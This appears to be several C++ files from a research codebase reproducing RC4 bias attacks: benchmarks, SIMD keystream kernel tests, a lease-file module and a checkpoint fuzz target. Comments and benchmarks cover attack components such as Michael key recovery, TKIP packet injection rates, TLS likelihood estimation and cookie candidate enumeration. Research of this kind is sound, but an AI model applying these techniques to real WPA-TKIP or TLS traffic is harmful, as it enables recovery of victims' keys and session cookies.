void BM_LaneKernelKeystream(benchmark::State& state, const KernelDesc* desc) {
  const size_t width = desc->preferred_width;
  const auto kernel = desc->make(width);
  const Bytes keys = RandomBytes(width * 16, 24);
  kernel->Init(keys, 16);
  const size_t length = static_cast<size_t>(state.range(0));
  Bytes buffer(width * length);
  for (auto _ : state) {
    kernel->Keystream(buffer.data(), length, length);
    benchmark::DoNotOptimize(buffer.data());
  }
  state.SetBytesProcessed(state.iterations() *
                          static_cast<int64_t>(width * length));
}

void RegisterLaneKernelBenchmarks() {
  for (const KernelDesc& desc : KernelRegistry()) {
    if (!desc.Available()) {
      continue;
    }
    const std::string name(desc.name);
    benchmark::RegisterBenchmark(("BM_LaneKernelKsa/" + name).c_str(),
                                 BM_LaneKernelKsa, &desc);
    benchmark::RegisterBenchmark(("BM_LaneKernelKeystream/" + name).c_str(),
                                 BM_LaneKernelKeystream, &desc)
        ->Arg(256)
        ->Arg(4096);
  }
}

void BM_AesCtr(benchmark::State& state) {
  Aes128Ctr ctr(RandomBytes(16, 3));
  Bytes buffer(4096);
  for (auto _ : state) {
    ctr.Generate(buffer);
    benchmark::DoNotOptimize(buffer.data());
  }
  state.SetBytesProcessed(state.iterations() * 4096);
}
BENCHMARK(BM_AesCtr);

void BM_Sha1(benchmark::State& state) {
  const Bytes data = RandomBytes(512, 4);
  for (auto _ : state) {
    auto digest = Sha1::Digest(data);
    benchmark::DoNotOptimize(digest.data());
  }
  state.SetBytesProcessed(state.iterations() * 512);
}
BENCHMARK(BM_Sha1);

void BM_HmacSha1(benchmark::State& state) {
  const Bytes key = RandomBytes(20, 5);
  const Bytes data = RandomBytes(512, 6);
  for (auto _ : state) {
    auto mac = HmacSha1::Digest(key, data);
    benchmark::DoNotOptimize(mac.data());
  }
  state.SetBytesProcessed(state.iterations() * 512);
}
BENCHMARK(BM_HmacSha1);

void BM_Crc32(benchmark::State& state) {
  const Bytes data = RandomBytes(1500, 7);
  for (auto _ : state) {
    benchmark::DoNotOptimize(Crc32(data));
  }
  state.SetBytesProcessed(state.iterations() * 1500);
}
BENCHMARK(BM_Crc32);

void BM_MichaelMic(benchmark::State& state) {
  const MichaelKey key{0x12345678, 0x9abcdef0};
  const Bytes data = RandomBytes(64, 8);
  for (auto _ : state) {
    auto mic = MichaelMic(key, data);
    benchmark::DoNotOptimize(mic.data());
  }
}
BENCHMARK(BM_MichaelMic);

void BM_MichaelKeyRecovery(benchmark::State& state) {
  const MichaelKey key{0x12345678, 0x9abcdef0};
  const Bytes data = RandomBytes(64, 9);
  const auto mic = MichaelMic(key, data);
  for (auto _ : state) {
    benchmark::DoNotOptimize(MichaelRecoverKey(data, mic));
  }
}
BENCHMARK(BM_MichaelKeyRecovery);

void BM_TkipKeyMixing(benchmark::State& state) {
  const Bytes tk = RandomBytes(16, 10);
  const Bytes ta = RandomBytes(6, 11);
  uint64_t tsc = 0;
  for (auto _ : state) {
    benchmark::DoNotOptimize(TkipMixKey(tk, ta, ++tsc));
  }
}
BENCHMARK(BM_TkipKeyMixing);

// One full injected-packet encryption: the victim-side cost bounding the
// paper's ~2500 packets/s live rate.
void BM_TkipEncapsulate(benchmark::State& state) {
  Xoshiro256 rng(12);
  TkipPeer peer;
  rng.Fill(peer.tk);
  peer.mic_key = MichaelKey{1, 2};
  rng.Fill(peer.ta);
  rng.Fill(peer.da);
  rng.Fill(peer.sa);
  const Bytes msdu = RandomBytes(55, 13);
  uint64_t tsc = 0;
  for (auto _ : state) {
    auto frame = TkipEncapsulate(peer, msdu, ++tsc);
    benchmark::DoNotOptimize(frame.ciphertext.data());
  }
}
BENCHMARK(BM_TkipEncapsulate);

// One 492-byte HTTPS request: the victim-side cost bounding ~4450 requests/s.
void BM_TlsSealRequest(benchmark::State& state) {
  const Bytes mac_key = RandomBytes(20, 14);
  const Bytes rc4_key = RandomBytes(16, 15);
  TlsWriteState writer(mac_key, rc4_key);
  const Bytes payload = RandomBytes(492, 16);
  for (auto _ : state) {
    auto record = writer.Seal(payload);
    benchmark::DoNotOptimize(record.data());
  }
  state.SetBytesProcessed(state.iterations() * 492);
}
BENCHMARK(BM_TlsSealRequest);

// Sparse double-byte likelihood over the FM cells: the per-pair cost of the
// TLS attack's estimate (paper: ~2^19 operations instead of 2^32).
void BM_SparseDoubleByteLikelihood(benchmark::State& state) {
  const auto model = FmSparseModel(17, 1 << 20);
  Xoshiro256 rng(17);
  std::vector<uint64_t> counts(65536);
  for (auto& c : counts) {
    c = rng() & 0xff;
  }
  for (auto _ : state) {
    auto lambda = DoubleByteLogLikelihoodSparse(counts, 1 << 24, model);
    benchmark::DoNotOptimize(lambda.data());
  }
}
BENCHMARK(BM_SparseDoubleByteLikelihood);

// Sharded keystream-statistics engine: the dataset hot path under every
// attack scenario. Args are {shard count (0 = all cores), interleave
// (1 = scalar, 0 = auto)}; items/sec is keystreams/sec.
// bench_engine_sharded reports the full scalar-vs-interleaved sweep.
void BM_EngineSingleByteStats(benchmark::State& state) {
  EngineOptions options;
  options.keys = 1 << 14;
  options.workers = static_cast<unsigned>(state.range(0));
  options.interleave = static_cast<size_t>(state.range(1));
  options.seed = 19;
  for (auto _ : state) {
    SingleByteAccumulator accumulator(256);
    RunKeystreamEngine(options, accumulator);
    benchmark::DoNotOptimize(accumulator.grid().keys());
  }
  state.SetItemsProcessed(state.iterations() * options.keys);
}
BENCHMARK(BM_EngineSingleByteStats)->Args({1, 1})->Args({1, 0})->Args({0, 0});

void BM_EngineDigraphStats(benchmark::State& state) {
  EngineOptions options;
  options.keys = 1 << 14;
  options.workers = static_cast<unsigned>(state.range(0));
  options.interleave = static_cast<size_t>(state.range(1));
  options.seed = 20;
  for (auto _ : state) {
    ConsecutiveAccumulator accumulator(256);
    RunKeystreamEngine(options, accumulator);
    benchmark::DoNotOptimize(accumulator.grid().keys());
  }
  state.SetItemsProcessed(state.iterations() * options.keys);
}
BENCHMARK(BM_EngineDigraphStats)->Args({1, 1})->Args({1, 0})->Args({0, 0});

// Candidate generation throughput (paper: 20000 cookies tested per second,
// dominated by candidate generation + HTTP pipelining).
void BM_LazyCandidateEnumeration(benchmark::State& state) {
  Xoshiro256 rng(18);
  SingleByteTables tables(12, std::vector<double>(256));
  for (auto& table : tables) {
    for (auto& v : table) {
      v = -rng.UnitDouble();
    }
  }
  LazyCandidateEnumerator enumerator(tables);
  for (auto _ : state) {
    benchmark::DoNotOptimize(enumerator.Next());
  }
}
BENCHMARK(BM_LazyCandidateEnumeration);

// Console output as usual, while collecting every run into
// BENCH_throughput.json: per benchmark the real ns/iter plus the rate
// counters (items_per_second / bytes_per_second) google-benchmark computed.
class TrajectoryReporter : public benchmark::ConsoleReporter {
 public:
  explicit TrajectoryReporter(bench::JsonTrajectory& json) : json_(json) {}

  void ReportRuns(const std::vector<Run>& report) override {
    for (const Run& run : report) {
      if (run.error_occurred || run.run_type != Run::RT_Iteration) {
        continue;
      }
      const std::string name = run.benchmark_name();
      json_.Add(name + "/real_ns", run.GetAdjustedRealTime());
      for (const auto& [counter, value] : run.counters) {
        json_.Add(name + "/" + counter, static_cast<double>(value));
      }
    }
    ConsoleReporter::ReportRuns(report);
  }

 private:
  bench::JsonTrajectory& json_;
};

}  // namespace
}  // namespace rc4b

int main(int argc, char** argv) {
  benchmark::Initialize(&argc, argv);
  if (benchmark::ReportUnrecognizedArguments(argc, argv)) {
    return 1;
  }
  rc4b::RegisterLaneKernelBenchmarks();
  rc4b::bench::JsonTrajectory json("throughput");
  json.Add("cpu_features", rc4b::CpuFeatureString());
  rc4b::TrajectoryReporter reporter(json);
  benchmark::RunSpecifiedBenchmarks(&reporter);
  benchmark::Shutdown();
  json.Write();
  return 0;
}
