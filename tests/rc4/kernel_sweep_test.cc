#include "src/rc4/kernel_registry.h"

#include <gtest/gtest.h>

#include <cstdlib>
#include <memory>
#include <vector>

#include "src/common/bytes.h"
#include "src/common/rng.h"
#include "src/rc4/kernel.h"
#include "src/rc4/rc4.h"
#include "src/rc4/rc4_multi.h"

namespace rc4b {
namespace {

// Every registered kernel — scalar and each ISA kernel the build + CPU can
// run — must be byte-identical to the scalar Rc4 oracle at every supported
// width. This mirrors rc4_multi_test.cc case for case; a SIMD kernel earns
// its place in dispatch only by passing the exact same sweep.

Bytes RandomKeys(size_t count, size_t key_size, uint64_t seed) {
  Xoshiro256 rng(seed);
  Bytes keys(count * key_size);
  rng.Fill(keys);
  return keys;
}

Bytes ScalarReference(std::span<const uint8_t> key, uint64_t drop, size_t length) {
  Rc4 rc4(key);
  rc4.Skip(drop);
  Bytes out(length);
  rc4.Keystream(out);
  return out;
}

void ExpectMatchesScalar(const KernelDesc& desc, size_t width, uint64_t drop,
                         size_t length, uint64_t seed) {
  const Bytes keys = RandomKeys(width, 16, seed);
  auto kernel = desc.make(width);
  ASSERT_NE(kernel, nullptr) << desc.name << " width=" << width;
  kernel->Init(keys, 16);
  if (drop != 0) {
    kernel->Skip(drop);
  }
  Bytes batch(width * length);
  kernel->Keystream(batch.data(), length, length);
  for (size_t m = 0; m < width; ++m) {
    const auto key = std::span<const uint8_t>(keys).subspan(m * 16, 16);
    const Bytes expected = ScalarReference(key, drop, length);
    const Bytes actual(batch.begin() + m * length, batch.begin() + (m + 1) * length);
    ASSERT_EQ(actual, expected) << desc.name << " width=" << width << " lane=" << m
                                << " drop=" << drop << " length=" << length;
  }
}

std::vector<const KernelDesc*> AvailableKernels() {
  std::vector<const KernelDesc*> kernels;
  for (const KernelDesc& kernel : KernelRegistry()) {
    if (kernel.Available()) {
      kernels.push_back(&kernel);
    }
  }
  return kernels;
}

TEST(KernelSweepTest, RegistryAlwaysHasScalarFirst) {
  const auto kernels = KernelRegistry();
  ASSERT_FALSE(kernels.empty());
  EXPECT_EQ(kernels.front().name, "scalar");
  EXPECT_TRUE(kernels.front().Available());
  EXPECT_EQ(&kernels.front(), &ScalarKernelDesc());
  // x86 builds with SIMD on should see ssse3/avx2/avx512 listed (available
  // or not); every build lists the scalar oracle plus the four ISA stubs.
  EXPECT_EQ(kernels.size(), 5u);
}

TEST(KernelSweepTest, EveryAvailableKernelMatchesScalarAtEveryWidth) {
  for (const KernelDesc* desc : AvailableKernels()) {
    for (const size_t width : desc->widths) {
      if (width == 1) {
        continue;  // width 1 IS the oracle
      }
      for (const size_t length :
           {size_t{1}, size_t{16}, size_t{256}, size_t{513}}) {
        ExpectMatchesScalar(*desc, width, 0, length, 0x1000 ^ length);
      }
      for (const uint64_t drop : {uint64_t{1}, uint64_t{256}, uint64_t{1024}}) {
        ExpectMatchesScalar(*desc, width, drop, 64, 0x2000 ^ (drop << 16));
      }
    }
  }
}

TEST(KernelSweepTest, TileSeamLengthsMatchScalar) {
  // Lengths straddling the 64-column emit tile (kernel_lanes.h): 63/64/65
  // exercise the ragged flush, the exact-tile path, and a full tile plus a
  // 1-column remainder; 127/129 cross the second seam with both parities.
  // Also run each length with stride > length so the ragged flush proves it
  // honors the row stride, not just packed rows.
  for (const KernelDesc* desc : AvailableKernels()) {
    for (const size_t width : desc->widths) {
      if (width == 1) {
        continue;
      }
      for (const size_t length :
           {size_t{63}, size_t{64}, size_t{65}, size_t{127}, size_t{129}}) {
        ExpectMatchesScalar(*desc, width, 0, length, 0x6000 ^ (length << 8));

        const size_t stride = length + 19;
        const Bytes keys = RandomKeys(width, 16, 0x6100 ^ (length << 8));
        Bytes batch(width * stride, 0x55);
        auto kernel = desc->make(width);
        ASSERT_NE(kernel, nullptr);
        kernel->Init(keys, 16);
        kernel->Keystream(batch.data(), length, stride);
        for (size_t m = 0; m < width; ++m) {
          const auto key = std::span<const uint8_t>(keys).subspan(m * 16, 16);
          const Bytes expected = ScalarReference(key, 0, length);
          for (size_t t = 0; t < length; ++t) {
            ASSERT_EQ(batch[m * stride + t], expected[t])
                << desc->name << " width=" << width << " m=" << m << " t=" << t;
          }
          for (size_t t = length; t < stride; ++t) {
            ASSERT_EQ(batch[m * stride + t], 0x55)
                << desc->name << " width=" << width << " m=" << m << " t=" << t;
          }
        }
      }
    }
  }
}

TEST(KernelSweepTest, SkipKeystreamInterleavingsCrossTileSeams) {
  // Alternating Skip() and Keystream() with piece sizes that never align to
  // the 64-column tile: the kernel's i/j state must carry exactly across
  // every seam, including a Skip landing mid-tile.
  struct Step {
    uint64_t skip;
    size_t generate;
  };
  constexpr Step kSteps[] = {{0, 63},  {1, 64},  {65, 65},
                             {0, 1},   {63, 129}, {257, 31}};
  constexpr size_t kTotal = 63 + 64 + 65 + 1 + 129 + 31;
  for (const KernelDesc* desc : AvailableKernels()) {
    for (const size_t width : desc->widths) {
      if (width == 1) {
        continue;
      }
      const Bytes keys = RandomKeys(width, 16, 0x8000 ^ width);
      auto kernel = desc->make(width);
      ASSERT_NE(kernel, nullptr);
      kernel->Init(keys, 16);
      Bytes batch(width * kTotal);
      size_t offset = 0;
      for (const Step& step : kSteps) {
        if (step.skip != 0) {
          kernel->Skip(step.skip);
        }
        kernel->Keystream(batch.data() + offset, step.generate, kTotal);
        offset += step.generate;
      }
      for (size_t m = 0; m < width; ++m) {
        Rc4 rc4(std::span<const uint8_t>(keys).subspan(m * 16, 16));
        Bytes expected(kTotal);
        size_t out = 0;
        for (const Step& step : kSteps) {
          rc4.Skip(step.skip);
          rc4.Keystream(std::span<uint8_t>(expected).subspan(out, step.generate));
          out += step.generate;
        }
        const Bytes actual(batch.begin() + m * kTotal,
                           batch.begin() + (m + 1) * kTotal);
        ASSERT_EQ(actual, expected) << desc->name << " width=" << width
                                    << " lane=" << m;
      }
    }
  }
}

TEST(KernelSweepTest, EngineShapedStridedChunksMatchScalar) {
  // The long-term engine (StreamKeysWithKernel) fills each lane row window
  // by window: a lookahead prefix, then fixed chunks, then a tail, all at
  // the full row stride. None of these piece sizes align to the emit tile,
  // so every boundary lands mid-tile.
  constexpr size_t kLookahead = 65;
  constexpr size_t kChunk = 127;
  constexpr size_t kTail = 63;
  constexpr size_t kStride = kLookahead + 2 * kChunk + kTail;
  for (const KernelDesc* desc : AvailableKernels()) {
    for (const size_t width : desc->widths) {
      if (width == 1) {
        continue;
      }
      const Bytes keys = RandomKeys(width, 16, 0x9000 ^ width);
      auto kernel = desc->make(width);
      ASSERT_NE(kernel, nullptr);
      kernel->Init(keys, 16);
      Bytes batch(width * kStride);
      uint8_t* base = batch.data();
      kernel->Keystream(base, kLookahead, kStride);
      kernel->Keystream(base + kLookahead, kChunk, kStride);
      kernel->Keystream(base + kLookahead + kChunk, kChunk, kStride);
      kernel->Keystream(base + kLookahead + 2 * kChunk, kTail, kStride);
      for (size_t m = 0; m < width; ++m) {
        const auto key = std::span<const uint8_t>(keys).subspan(m * 16, 16);
        const Bytes expected = ScalarReference(key, 0, kStride);
        const Bytes actual(batch.begin() + m * kStride,
                           batch.begin() + (m + 1) * kStride);
        ASSERT_EQ(actual, expected) << desc->name << " width=" << width
                                    << " lane=" << m;
      }
    }
  }
}

TEST(KernelSweepTest, SplitGenerationCarriesState) {
  // Keystream() in several calls must equal one shot — the long-term engine
  // generates streams window by window from one kernel instance.
  for (const KernelDesc* desc : AvailableKernels()) {
    for (const size_t width : desc->widths) {
      if (width == 1) {
        continue;
      }
      const Bytes keys = RandomKeys(width, 16, 0x3000 ^ width);
      constexpr size_t kTotal = 513;

      auto one_shot = desc->make(width);
      ASSERT_NE(one_shot, nullptr);
      one_shot->Init(keys, 16);
      Bytes full(width * kTotal);
      one_shot->Keystream(full.data(), kTotal, kTotal);

      auto split = desc->make(width);
      ASSERT_NE(split, nullptr);
      split->Init(keys, 16);
      Bytes pieces(width * kTotal);
      size_t offset = 0;
      for (const size_t piece : {size_t{1}, size_t{255}, size_t{257}}) {
        split->Keystream(pieces.data() + offset, piece, kTotal);
        offset += piece;
      }
      EXPECT_EQ(pieces, full) << desc->name << " width=" << width;
    }
  }
}

TEST(KernelSweepTest, StridedStoresStayInsideRows) {
  // stride > length: bytes past `length` in each lane row must be untouched.
  constexpr size_t kLength = 33;
  constexpr size_t kStride = 48;
  for (const KernelDesc* desc : AvailableKernels()) {
    for (const size_t width : desc->widths) {
      if (width == 1) {
        continue;
      }
      const Bytes keys = RandomKeys(width, 16, 0x4000 ^ width);
      Bytes batch(width * kStride, 0xAA);
      auto kernel = desc->make(width);
      ASSERT_NE(kernel, nullptr);
      kernel->Init(keys, 16);
      kernel->Keystream(batch.data(), kLength, kStride);
      for (size_t m = 0; m < width; ++m) {
        const auto key = std::span<const uint8_t>(keys).subspan(m * 16, 16);
        const Bytes expected = ScalarReference(key, 0, kLength);
        for (size_t t = 0; t < kLength; ++t) {
          ASSERT_EQ(batch[m * kStride + t], expected[t])
              << desc->name << " m=" << m << " t=" << t;
        }
        for (size_t t = kLength; t < kStride; ++t) {
          ASSERT_EQ(batch[m * kStride + t], 0xAA)
              << desc->name << " m=" << m << " t=" << t;
        }
      }
    }
  }
}

TEST(KernelSweepTest, ReInitResetsState) {
  // The engines call Init() once per lockstep group on ONE kernel object;
  // a stale j/i from the previous group would corrupt every batch after
  // the first.
  for (const KernelDesc* desc : AvailableKernels()) {
    const size_t width = desc->preferred_width;
    if (width == 1) {
      continue;
    }
    const Bytes keys = RandomKeys(width, 16, 0x5000);
    auto kernel = desc->make(width);
    ASSERT_NE(kernel, nullptr);
    Bytes first(width * 64);
    kernel->Init(keys, 16);
    kernel->Keystream(first.data(), 64, 64);
    // Disturb the state, then re-init with the same keys.
    kernel->Skip(123);
    Bytes again(width * 64);
    kernel->Init(keys, 16);
    kernel->Keystream(again.data(), 64, 64);
    EXPECT_EQ(again, first) << desc->name;
  }
}

// ------------------------------------------------------------------------
// Dispatch semantics. These tests manipulate RC4B_KERNEL /
// RC4B_AUTOTUNE_CACHE, so keep them in this (serial) binary.

class KernelEnvGuard {
 public:
  KernelEnvGuard() {
    ::unsetenv("RC4B_KERNEL");
    ::unsetenv("RC4B_AUTOTUNE_CACHE");
  }
  ~KernelEnvGuard() {
    ::unsetenv("RC4B_KERNEL");
    ::unsetenv("RC4B_AUTOTUNE_CACHE");
  }
};

TEST(ResolveKernelChoiceTest, InterleaveOneIsAlwaysTheScalarOracle) {
  KernelEnvGuard guard;
  // Even a forced ISA kernel must yield to width 1 — the reference path
  // every bit-exactness comparison anchors to.
  for (const KernelDesc& kernel : KernelRegistry()) {
    const KernelChoice choice = ResolveKernelChoice(kernel.name, 1);
    EXPECT_EQ(choice.name(), "scalar") << "forced " << kernel.name;
    EXPECT_EQ(choice.width, 1u);
    EXPECT_EQ(choice.requested, 1u);
  }
}

TEST(ResolveKernelChoiceTest, UnknownNameFallsBackToScalar) {
  KernelEnvGuard guard;
  const KernelChoice choice = ResolveKernelChoice("no-such-kernel", 0);
  EXPECT_EQ(choice.name(), "scalar");
  EXPECT_EQ(choice.width, kDefaultInterleave);
}

TEST(ResolveKernelChoiceTest, AutoPicksAnAvailableKernelAtItsPreferredWidth) {
  KernelEnvGuard guard;
  const KernelChoice choice = ResolveKernelChoice("", 0);
  ASSERT_NE(choice.kernel, nullptr);
  EXPECT_TRUE(choice.kernel->Available());
  EXPECT_EQ(choice.width, choice.kernel->preferred_width);
  // Auto never picks a lower-priority kernel than some available one.
  for (const KernelDesc& kernel : KernelRegistry()) {
    if (kernel.Available()) {
      EXPECT_GE(choice.kernel->priority, kernel.priority) << kernel.name;
    }
  }
}

TEST(ResolveKernelChoiceTest, ExplicitWidthIsAuthoritativeOverForcedKernel) {
  KernelEnvGuard guard;
  // A kernel that cannot run at the resolved width falls back to scalar AT
  // that width — the user's --interleave always wins.
  for (const KernelDesc* desc : AvailableKernels()) {
    if (desc->SupportsWidth(2)) {
      continue;  // scalar itself: nothing to fall back from
    }
    const KernelChoice choice = ResolveKernelChoice(desc->name, 2);
    EXPECT_EQ(choice.name(), "scalar") << "forced " << desc->name;
    EXPECT_EQ(choice.width, 2u);
  }
}

TEST(ResolveKernelChoiceTest, ForcedKernelRoundsRequestDownToSupportedWidth) {
  KernelEnvGuard guard;
  for (const KernelDesc* desc : AvailableKernels()) {
    const size_t wide = desc->widths.back();
    // Requesting more than the widest lane count rounds down to it (via
    // ResolveInterleave, then the kernel's own width table).
    const KernelChoice choice = ResolveKernelChoice(desc->name, 1000);
    EXPECT_EQ(choice.name(), desc->name);
    EXPECT_EQ(choice.width, std::min<size_t>(wide, ResolveInterleave(1000)));
    EXPECT_EQ(choice.requested, 1000u);
  }
}

TEST(ResolveKernelChoiceTest, EnvVariableForcesKernelWhenOptionIsEmpty) {
  KernelEnvGuard guard;
  ::setenv("RC4B_KERNEL", "scalar", 1);
  const KernelChoice from_env = ResolveKernelChoice("", 0);
  EXPECT_EQ(from_env.name(), "scalar");
  EXPECT_EQ(from_env.width, kDefaultInterleave);

  // An explicit option name still beats the env.
  for (const KernelDesc* desc : AvailableKernels()) {
    const KernelChoice forced = ResolveKernelChoice(desc->name, 0);
    EXPECT_EQ(forced.name(), desc->name);
  }
}

TEST(KernelSweepTest, CpuFeatureStringListsOnlySupportedFeatures) {
  const std::string features = CpuFeatureString();
  EXPECT_FALSE(features.empty());
  for (const KernelDesc& kernel : KernelRegistry()) {
    if (kernel.features.empty()) {
      continue;
    }
    const bool listed = features.find(kernel.features) != std::string::npos;
    EXPECT_EQ(listed, kernel.cpu_supports()) << kernel.name;
  }
}

}  // namespace
}  // namespace rc4b
