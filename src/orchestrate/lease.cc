#include "src/orchestrate/lease.h"

#include <cerrno>
#include <charconv>
#include <cstdio>

#include <fcntl.h>
#include <unistd.h>

namespace rc4b::orchestrate {

namespace {

constexpr std::string_view kHeader = "rc4b-lease 1";

// Consumes one '\n'-terminated line. A final line without a newline is
// rejected — every writer emits a trailing newline, so its absence means a
// torn write.
bool NextLine(std::string_view* rest, std::string_view* line) {
  const size_t nl = rest->find('\n');
  if (nl == std::string_view::npos) {
    return false;
  }
  *line = rest->substr(0, nl);
  rest->remove_prefix(nl + 1);
  return true;
}

// "key value" with exactly one space; returns the value or empty on shape
// mismatch (empty is never a valid value here).
std::string_view FieldValue(std::string_view line, std::string_view key) {
  if (line.size() <= key.size() + 1 || line.substr(0, key.size()) != key ||
      line[key.size()] != ' ') {
    return {};
  }
  return line.substr(key.size() + 1);
}

template <typename T>
bool ParseNumber(std::string_view token, T* out) {
  if (token.empty()) {
    return false;
  }
  const auto [ptr, ec] = std::from_chars(token.data(), token.data() + token.size(),
                                         *out);
  return ec == std::errc() && ptr == token.data() + token.size();
}

bool ValidOwnerToken(std::string_view owner) {
  if (owner.empty()) {
    return false;
  }
  for (const char c : owner) {
    if (c <= 0x20 || c > 0x7e) {  // printable ASCII, no whitespace
      return false;
    }
  }
  return true;
}

IoStatus ParseError(const std::string& context, const char* what) {
  return IoStatus::Fail("lease " + context + ": " + what);
}

}  // namespace

std::string LeasePath(const std::string& shard_path) { return shard_path + ".lease"; }

std::string FormatLease(const Lease& lease) {
  std::string text(kHeader);
  text += "\nowner ";
  text += lease.owner;
  text += "\nacquired_ms ";
  text += std::to_string(lease.acquired_ms);
  text += "\nheartbeat_ms ";
  text += std::to_string(lease.heartbeat_ms);
  text += "\nattempt ";
  text += std::to_string(lease.attempt);
  text += "\n";
  return text;
}

IoStatus ParseLease(std::string_view text, const std::string& context, Lease* out) {
  std::string_view line;
  if (!NextLine(&text, &line) || line != kHeader) {
    return ParseError(context, "bad header (want 'rc4b-lease 1')");
  }
  Lease lease;
  if (!NextLine(&text, &line)) {
    return ParseError(context, "truncated before owner");
  }
  const std::string_view owner = FieldValue(line, "owner");
  if (!ValidOwnerToken(owner)) {
    return ParseError(context, "bad owner line");
  }
  lease.owner = std::string(owner);
  if (!NextLine(&text, &line) ||
      !ParseNumber(FieldValue(line, "acquired_ms"), &lease.acquired_ms)) {
    return ParseError(context, "bad acquired_ms line");
  }
  if (!NextLine(&text, &line) ||
      !ParseNumber(FieldValue(line, "heartbeat_ms"), &lease.heartbeat_ms)) {
    return ParseError(context, "bad heartbeat_ms line");
  }
  if (!NextLine(&text, &line) ||
      !ParseNumber(FieldValue(line, "attempt"), &lease.attempt)) {
    return ParseError(context, "bad attempt line");
  }
  if (!text.empty()) {
    return ParseError(context, "trailing data after attempt");
  }
  *out = std::move(lease);
  return IoStatus::Ok();
}

IoStatus ReadLeaseFile(const std::string& path, Lease* out) {
  MmapFile map;
  if (IoStatus status = MmapFile::Open(path, &map); !status.ok()) {
    return status;  // errno-classified: missing/unreadable is transient
  }
  const std::string_view text(reinterpret_cast<const char*>(map.bytes().data()),
                              map.bytes().size());
  return ParseLease(text, path, out);
}

IoStatus AcquireLease(const std::string& path, const std::string& owner,
                      uint64_t now_ms, uint64_t ttl_ms, uint32_t attempt,
                      Lease* out) {
  const Lease lease{owner, now_ms, now_ms, attempt};
  const std::string image = FormatLease(lease);

  // Fresh claim: O_EXCL makes creation itself the atomic mutual exclusion.
  const int fd = ::open(path.c_str(), O_CREAT | O_EXCL | O_WRONLY, 0644);
  if (fd >= 0) {
    const char* data = image.data();
    size_t left = image.size();
    while (left > 0) {
      const ssize_t wrote = ::write(fd, data, left);
      if (wrote <= 0) {
        const IoStatus status = IoStatus::FromErrno("write", path);
        ::close(fd);
        std::remove(path.c_str());
        return status;
      }
      data += wrote;
      left -= static_cast<size_t>(wrote);
    }
    ::close(fd);
    *out = lease;
    return IoStatus::Ok();
  }
  if (errno != EEXIST) {
    return IoStatus::FromErrno("open", path);
  }

  Lease held;
  if (ReadLeaseFile(path, &held).ok()) {
    if (held.owner == owner) {
      // Re-entrant acquire by the same worker launch: refresh and carry on.
      if (IoStatus status = WriteFileAtomic(path, image); !status.ok()) {
        return status;
      }
      *out = lease;
      return IoStatus::Ok();
    }
    const bool stale =
        held.heartbeat_ms <= now_ms && now_ms - held.heartbeat_ms >= ttl_ms;
    if (!stale) {
      return IoStatus::Transient("lease " + path + " held by " + held.owner +
                                 " (heartbeat " +
                                 std::to_string(held.heartbeat_ms) + ")");
    }
  }
  // Stale — or unreadable, i.e. a torn O_EXCL write from an acquirer that
  // crashed mid-claim and can never renew it. Steal with an atomic replace:
  // racing stealers resolve by last-rename-wins, and the loser notices at
  // its next RenewLease owner check.
  if (IoStatus status = WriteFileAtomic(path, image); !status.ok()) {
    return status;
  }
  *out = lease;
  return IoStatus::Ok();
}

IoStatus RenewLease(const std::string& path, const std::string& owner,
                    uint64_t now_ms) {
  Lease held;
  if (IoStatus status = ReadLeaseFile(path, &held); !status.ok()) {
    return IoStatus::Transient("lease " + path + " lost: " + status.message());
  }
  if (held.owner != owner) {
    return IoStatus::Transient("lease " + path + " lost to " + held.owner);
  }
  held.heartbeat_ms = now_ms;
  return WriteFileAtomic(path, FormatLease(held));
}

IoStatus ReleaseLease(const std::string& path, const std::string& owner) {
  Lease held;
  if (!ReadLeaseFile(path, &held).ok() || held.owner != owner) {
    return IoStatus::Ok();  // gone, torn, or stolen: the new owner's problem
  }
  std::remove(path.c_str());
  return IoStatus::Ok();
}

}  // namespace rc4b::orchestrate
