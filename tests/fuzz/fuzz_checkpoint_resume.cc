// Fuzz target: the shard-runner resume path (src/store/shard_runner.cc).
// A host crash can leave anything on disk where "<shard>.ckpt" should be;
// RunShard must treat an arbitrary checkpoint file as untrusted — resume
// from it only when it fully validates as a prefix of this shard's dataset,
// reject it loudly otherwise, and never crash or corrupt the final grid.
#include <cstdint>
#include <cstdio>
#include <cstdlib>

#include "src/store/grid_file.h"
#include "src/store/manifest.h"
#include "src/store/shard_runner.h"
#include "tests/fuzz/fuzz_util.h"

namespace {

// One tiny single-shard dataset, written once per process. 64 single-byte
// keys over one row keep a successful resume down in the microseconds.
const rc4b::store::Manifest& FuzzManifest(const std::string** manifest_path) {
  static const std::string path = rc4b::fuzz::ScratchPath("resume.manifest");
  static const rc4b::store::Manifest manifest = [] {
    rc4b::store::GridMeta meta;
    meta.kind = rc4b::store::GridKind::kSingleByte;
    meta.seed = 5;
    meta.key_begin = 0;
    meta.key_end = 64;
    meta.rows = 1;
    rc4b::store::Manifest planned = rc4b::store::PlanShards(
        meta, 1, rc4b::fuzz::ScratchPath("resume"));
    if (!rc4b::store::WriteManifest(path, planned).ok()) {
      std::abort();
    }
    return planned;
  }();
  *manifest_path = &path;
  return manifest;
}

}  // namespace

extern "C" int LLVMFuzzerTestOneInput(const uint8_t* data, size_t size) {
  const std::string* manifest_path = nullptr;
  const rc4b::store::Manifest& manifest = FuzzManifest(&manifest_path);
  const std::string shard_path = rc4b::store::ResolveManifestPath(
      *manifest_path, manifest.shards[0].path);
  const std::string ckpt_path = rc4b::store::CheckpointPath(shard_path);

  // Plant the fuzz input as the leftover checkpoint; make sure no final
  // grid from the previous iteration short-circuits the resume logic.
  std::remove(shard_path.c_str());
  if (!rc4b::fuzz::WriteInput(ckpt_path, data, size)) {
    return 0;
  }

  rc4b::store::ShardRunOptions options;
  options.workers = 1;
  options.checkpoint_keys = 16;
  rc4b::store::ShardRunResult result;
  const rc4b::IoStatus status = rc4b::store::RunShard(
      manifest, *manifest_path, 0, options, &result);

  if (status.ok() && result.finished) {
    // Whatever the checkpoint claimed, a finished shard must hold the
    // bit-exact dataset: same cells as a clean single-threaded generation.
    rc4b::store::StoredGrid shard;
    if (!rc4b::store::ReadGridFile(shard_path, &shard).ok()) {
      std::abort();
    }
    static const rc4b::store::StoredGrid reference =
        rc4b::store::GenerateStoredGrid(manifest.grid, 1, 1);
    if (shard.cells.size() != reference.cells.size()) {
      std::abort();
    }
    for (size_t i = 0; i < shard.cells.size(); ++i) {
      if (shard.cells[i] != reference.cells[i]) {
        std::abort();  // a forged checkpoint corrupted the final grid
      }
    }
  }
  std::remove(shard_path.c_str());
  std::remove(ckpt_path.c_str());
  return 0;
}
