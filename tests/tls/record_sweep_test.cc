// Parameterized property sweeps over the TLS record layer: round-trip and
